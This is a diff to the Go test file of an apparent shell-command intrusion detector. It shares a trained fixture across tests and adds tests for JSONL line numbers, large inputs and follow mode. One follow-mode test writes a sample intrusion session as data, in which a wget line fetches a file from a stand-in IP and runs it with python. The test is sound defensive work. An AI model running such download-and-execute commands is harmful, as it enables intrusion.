@@ -4,45 +4,80 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
 
 	"clmids/internal/core"
 	"clmids/internal/corpus"
 )
 
-// buildFixture trains and saves a tiny pipeline plus a baseline log.
+// fixture trains and saves a tiny pipeline plus a baseline log once,
+// shared across the command tests.
+type fixture struct {
+	dir      string
+	modelDir string
+	dataPath string
+}
+
+var (
+	fixOnce sync.Once
+	fix     fixture
+	fixErr  error
+)
+
+// TestMain removes the shared fixture directory (a t.TempDir would be
+// torn down when its creating test ends, breaking the sync.Once sharing).
+func TestMain(m *testing.M) {
+	code := m.Run()
+	if fix.dir != "" {
+		os.RemoveAll(fix.dir)
+	}
+	os.Exit(code)
+}
+
 func buildFixture(t *testing.T) (modelDir, dataPath string) {
 	t.Helper()
-	dir := t.TempDir()
-	ccfg := corpus.DefaultConfig()
-	ccfg.TrainLines = 500
-	ccfg.TestLines = 50
-	ccfg.IntrusionRate = 0.2
-	train, _, err := corpus.Generate(ccfg)
-	if err != nil {
-		t.Fatal(err)
-	}
-	dataPath = filepath.Join(dir, "train.jsonl")
-	f, err := os.Create(dataPath)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := train.WriteJSONL(f); err != nil {
-		t.Fatal(err)
-	}
-	f.Close()
+	fixOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "clmdetect-fixture-")
+		if err != nil {
+			fixErr = err
+			return
+		}
+		fix.dir = dir
+		ccfg := corpus.DefaultConfig()
+		ccfg.TrainLines = 500
+		ccfg.TestLines = 50
+		ccfg.IntrusionRate = 0.2
+		train, _, err := corpus.Generate(ccfg)
+		if err != nil {
+			fixErr = err
+			return
+		}
+		fix.dataPath = filepath.Join(dir, "train.jsonl")
+		f, err := os.Create(fix.dataPath)
+		if err != nil {
+			fixErr = err
+			return
+		}
+		if fixErr = train.WriteJSONL(f); fixErr != nil {
+			return
+		}
+		f.Close()
 
-	pcfg := core.TinyExperiment().Pipeline
-	pcfg.Pretrain.Epochs = 1
-	pl, err := core.BuildPipeline(train.Lines(), pcfg)
-	if err != nil {
-		t.Fatal(err)
+		pcfg := core.TinyExperiment().Pipeline
+		pcfg.Pretrain.Epochs = 1
+		pl, err := core.BuildPipeline(train.Lines(), pcfg)
+		if err != nil {
+			fixErr = err
+			return
+		}
+		fix.modelDir = filepath.Join(dir, "model")
+		fixErr = pl.SaveDir(fix.modelDir)
+	})
+	if fixErr != nil {
+		t.Fatalf("fixture: %v", fixErr)
 	}
-	modelDir = filepath.Join(dir, "model")
-	if err := pl.SaveDir(modelDir); err != nil {
-		t.Fatal(err)
-	}
-	return modelDir, dataPath
+	return fix.modelDir, fix.dataPath
 }
 
 func TestDetectMethods(t *testing.T) {
@@ -84,5 +119,76 @@ func TestReadInputJSONLAndPlain(t *testing.T) {
 	lines, err = readInput(plain)
 	if err != nil || len(lines) != 2 {
 		t.Fatalf("plain input: %v %v", lines, err)
+	}
+}
+
+// TestReadInputReportsTrueLineNumbers: the JSONL stream is parsed once,
+// so a malformed record names its actual position, not "line 1".
+func TestReadInputReportsTrueLineNumbers(t *testing.T) {
+	dir := t.TempDir()
+	jsonl := filepath.Join(dir, "x.jsonl")
+	body := `{"line":"ls","label":"benign"}` + "\n" +
+		`{"line":"df -h","label":"benign"}` + "\n" +
+		`{"line":"broken"` + "\n" + // malformed: line 3
+		`{"line":"ps","label":"benign"}` + "\n"
+	os.WriteFile(jsonl, []byte(body), 0o644)
+	_, err := readInput(jsonl)
+	if err == nil || !strings.Contains(err.Error(), "line 3") {
+		t.Fatalf("malformed record error %v does not name line 3", err)
+	}
+}
+
+// TestReadInputLargeJSONL: single-pass parsing holds beyond the peek
+// buffer (the old per-line re-parse rebuilt a decoder per record).
+func TestReadInputLargeJSONL(t *testing.T) {
+	dir := t.TempDir()
+	jsonl := filepath.Join(dir, "big.jsonl")
+	var b strings.Builder
+	for i := 0; i < 5000; i++ {
+		b.WriteString(`{"line":"echo line`)
+		b.WriteString(strings.Repeat("x", 20))
+		b.WriteString(`","label":"benign"}` + "\n")
+	}
+	os.WriteFile(jsonl, []byte(b.String()), 0o644)
+	lines, err := readInput(jsonl)
+	if err != nil || len(lines) != 5000 {
+		t.Fatalf("large jsonl: %d lines, %v", len(lines), err)
+	}
+}
+
+// TestFollowMode streams both plain-text and JSONL input through the
+// session-aware detector.
+func TestFollowMode(t *testing.T) {
+	modelDir, dataPath := buildFixture(t)
+	dir := t.TempDir()
+
+	plain := filepath.Join(dir, "tail.txt")
+	os.WriteFile(plain, []byte("whoami\nwget -c http://203.0.113.9/7e31 -o python\npython\n"), 0o644)
+	err := run([]string{
+		"-model", modelDir, "-baseline", dataPath, "-method", "pca",
+		"-follow", "-input", plain, "-context", "3", "-aggregation", "max",
+	})
+	if err != nil {
+		t.Errorf("follow plain: %v", err)
+	}
+
+	// JSONL input carries its own users and timestamps.
+	err = run([]string{
+		"-model", modelDir, "-baseline", dataPath, "-method", "retrieval",
+		"-follow", "-input", dataPath, "-session-threshold", "0.5",
+	})
+	if err != nil {
+		t.Errorf("follow jsonl: %v", err)
+	}
+}
+
+func TestFollowRejectsBadAggregation(t *testing.T) {
+	modelDir, dataPath := buildFixture(t)
+	err := run([]string{
+		"-model", modelDir, "-baseline", dataPath, "-method", "pca",
+		"-follow", "-aggregation", "bogus", "-input", dataPath,
+	})
+	if err == nil || !strings.Contains(err.Error(), "unknown aggregation") {
+		t.Fatalf("bad aggregation: %v", err)
 	}
 }
